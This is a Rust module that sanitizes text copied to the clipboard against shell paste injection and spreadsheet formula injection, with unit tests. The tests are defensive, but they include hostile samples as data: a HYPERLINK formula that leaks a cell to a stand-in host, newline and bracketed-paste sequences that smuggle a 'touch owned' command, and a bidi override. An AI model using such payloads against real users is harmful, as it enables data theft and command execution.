//! What goes to the clipboard: texts that can be pasted into a shell, a spreadsheet or a filter line.
//! Never changes what was asked for as it is; whatever else a record says leaves here on one line.

use std::borrow::Cow;

use crate::query::Query;
use crate::text::{clean, is_formula};

/// A text from records as it may be pasted anywhere: line breaks and other controls are pictures, as on
/// the screen, and what a spreadsheet would calculate begins with an apostrophe. Spreadsheets also part
/// pasted text at semicolons, commas and bars, so each part counts.
pub fn pasteable(text: &str) -> String {
    let line = clean(text);
    let mut safe = String::with_capacity(line.len() + 1);
    for part in line.split_inclusive([';', ',', '|']) {
        // A number behind a comma is a number.
        let is_risky = if safe.is_empty() { is_formula(part) } else { is_call(part) };
        if is_risky {
            safe.push('\'');
        }
        safe.push_str(part);
    }
    safe
}

/// Does a part of a text begin like a formula, and not like a negative number or an option?
fn is_call(part: &str) -> bool {
    is_formula(part) && !part.starts_with(['-', '+', ' '])
}

/// Cells of a row, a tab between them: no cell holds one.
pub fn row(cells: impl Iterator<Item = String>) -> String {
    cells.map(|cell| pasteable(&cell)).collect::<Vec<_>>().join("\t")
}

/// A query on one line that finds the same: white space of any kind is one space to a query. One that
/// begins like a formula is put in brackets, which an apostrophe would spoil.
pub fn query(text: &str) -> String {
    let spaced: Cow<'_, str> = match text.contains(char::is_control) {
        true => text.chars().map(|c| if c.is_whitespace() { ' ' } else { c }).collect(),
        false => text.into(),
    };
    let line = clean(&spaced).into_owned();
    match is_formula(&line) && Query::parse(&line).is_ok() {
        true => format!("({line})"),
        false => line,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_is_pasted_runs() {
        for (text, safe) in [
            ("ann@fern.example", "ann@fern.example"),
            ("eve@fern.example\r\ntouch owned #\r\n", "eve@fern.example␍␊touch owned #␍␊"),
            ("Bob\u{1b}[201~\ntouch owned", "Bob␛[201~␊touch owned"),
            ("=HYPERLINK(\"http://x.example?\"&A1)", "'=HYPERLINK(\"http://x.example?\"&A1)"),
            ("+cmd", "'+cmd"),
            ("-2+3", "'-2+3"),
            ("@SUM(A1)", "'@SUM(A1)"),
            ("\t=1+1", "␉=1+1"),
            ("x;=1+1", "x;'=1+1"),
            ("x,@SUM(1)", "x,'@SUM(1)"),
            ("1,-2", "1,-2"),
            ("a\u{202e}b", "a<U+202E>b"),
        ] {
            assert_eq!(pasteable(text), safe, "{text:?}");
        }
        assert_eq!(row(["a\tb".to_owned(), "=1".to_owned()].into_iter()), "a␉b\t'=1");
    }

    #[test]
    fn a_copied_query_is_one_line_and_finds_the_same() {
        for (text, copied) in [
            ("risk>=high", "risk>=high"),
            ("-actor:ann", "(-actor:ann)"),
            ("actor=\"eve\r\ntouch owned\"", "actor=\"eve  touch owned\""),
            ("", ""),
        ] {
            assert_eq!(query(text), copied, "{text:?}");
        }
        assert_eq!(Query::parse("(-actor:ann)"), Query::parse("-actor:ann"));
    }
}
